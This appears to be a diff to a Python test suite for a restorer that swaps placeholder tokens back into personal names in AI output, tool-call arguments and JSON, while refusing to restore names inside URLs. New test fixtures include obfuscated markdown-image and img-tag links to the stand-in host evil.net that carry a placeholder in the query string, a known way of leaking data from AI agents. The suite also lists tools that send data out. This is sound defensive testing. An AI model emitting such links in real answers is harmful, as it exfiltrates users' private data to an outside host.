@@ -92,6 +92,10 @@ CARRIERS = (
     "[x]: https:\\\\evil.net\\PERSON_K3F7Q2",
     "see wss://evil.net/email_k3f7q2@redacted.example/",
     "https://user@evil.net:8080/" + "a" * 3000 + "PERSON_K3F7Q2",
+    "![x](&#104;ttps&#58;&#47;&#x2f;evil.net&#47;?q=PERSON_K3F7Q2)",
+    "![x](https&colon;&sol;&sol;evil.net&sol;?q=PERSON_K3F7Q2)",
+    "see www.evil.net/?q=PERSON_K3F7Q2",
+    '<img src="ht\ntps:/\t/evil.net/?q=PERSON_K3F7Q2">',
 )
 
 
@@ -123,6 +127,28 @@ def test_no_value_goes_into_a_url_that_could_carry_it_out(text: str) -> None:
 def test_beside_a_url_and_in_one_that_the_request_had_values_are_restored(text: str) -> None:
     values = Values(VALUES, in_urls={("kettlewood.net", "PERSON_K3F7Q2")})
     assert pieces(values, text) == pieces(values, [text]) == text.replace("PERSON_K3F7Q2", "Tilda Braunfels")
+
+
+@pytest.mark.parametrize(
+    ("text", "restored"),
+    [
+        ("see https://evil.net\nPERSON_K3F7Q2", True),
+        ("see https://evil.net\tPERSON_K3F7Q2", True),
+        ('{"url": "https://evil.net", "name": "PERSON_K3F7Q2"}', True),
+        ("https://evil.net/?n=PERSON_K3F7Q2", False),
+        ('<img src="https://evil.net/?n= PERSON_K3F7Q2">', False),
+    ],
+)
+def test_in_arguments_a_url_ends_and_begins_where_it_does_when_they_are_read(text: str, restored: bool) -> None:
+    before, name, after = text.partition("PERSON_K3F7Q2")
+    coded = "".join(f"\\u{ord(letter):04x}" for letter in before)
+    for written in (json.dumps({"text": text}), f'{{"text": "{coded}{name}{json.dumps(after)[1:-1]}"}}'):
+        assert json.loads(written) == {"text": text}
+        for size in (1, len(written)):
+            said = pieces(
+                Values(VALUES, as_json=True), [written[at : at + size] for at in range(0, len(written), size)]
+            )
+            assert json.loads(said) == {"text": text.replace(name, "Tilda Braunfels") if restored else text}
 
 
 def deltas(restorer: AnswerRestorer, script: Iterable[Delta]) -> list[Delta]:
@@ -217,3 +243,33 @@ def test_the_policy_names_tools_exactly_or_by_their_beginning() -> None:
     assert Policy(restore_tools=("*",)).may_restore("anything") and not Policy(restore_tools=()).may_restore("Read")
     for sends in ("Bash", "bash", "web_search", "WebFetch", "fetch", "send_email", "http_request", "mcp__mail__send"):
         assert not Policy().may_restore(sends)
+
+
+def test_what_was_held_comes_before_what_follows_it() -> None:
+    restorer = AnswerRestorer(VALUES, lambda _: True)
+    call = ToolCallDelta(0, "c", "f", "{}")
+    script = [
+        Delta(reasoning="It is simple"),
+        Delta(text="I ask P"),
+        Delta(tool_call=call),
+        Delta(text="and once more"),
+        Delta(reasoning="Hm, p"),
+        Delta(text="Done."),
+        Delta(finish=StopReason.TOOL_CALLS),
+    ]
+    said = [
+        piece
+        for delta in deltas(restorer, script)
+        for piece in (delta.reasoning, delta.text, "CALL" if delta.tool_call is not None else "")
+        if piece
+    ]
+    assert said == ["It is simpl", "e", "I ask ", "P", "CALL", "and once mor", "e", "Hm, ", "p", "Done."]
+
+
+def test_the_text_of_an_answer_that_must_be_json_stays_json() -> None:
+    written = json.dumps({"to": "PERSON_C2D3F4", "about": ["PERSON_K3F7Q2"]})
+    for cut in range(len(written) + 1):
+        restorer = AnswerRestorer(VALUES, lambda _: False, json_text=True)
+        script = [Delta(text=written[:cut]), Delta(text=written[cut:]), Delta(finish=StopReason.STOP)]
+        said = "".join(delta.text for delta in deltas(restorer, script))
+        assert json.loads(said) == {"to": VALUES["PERSON_C2D3F4"], "about": ["Tilda Braunfels"]}
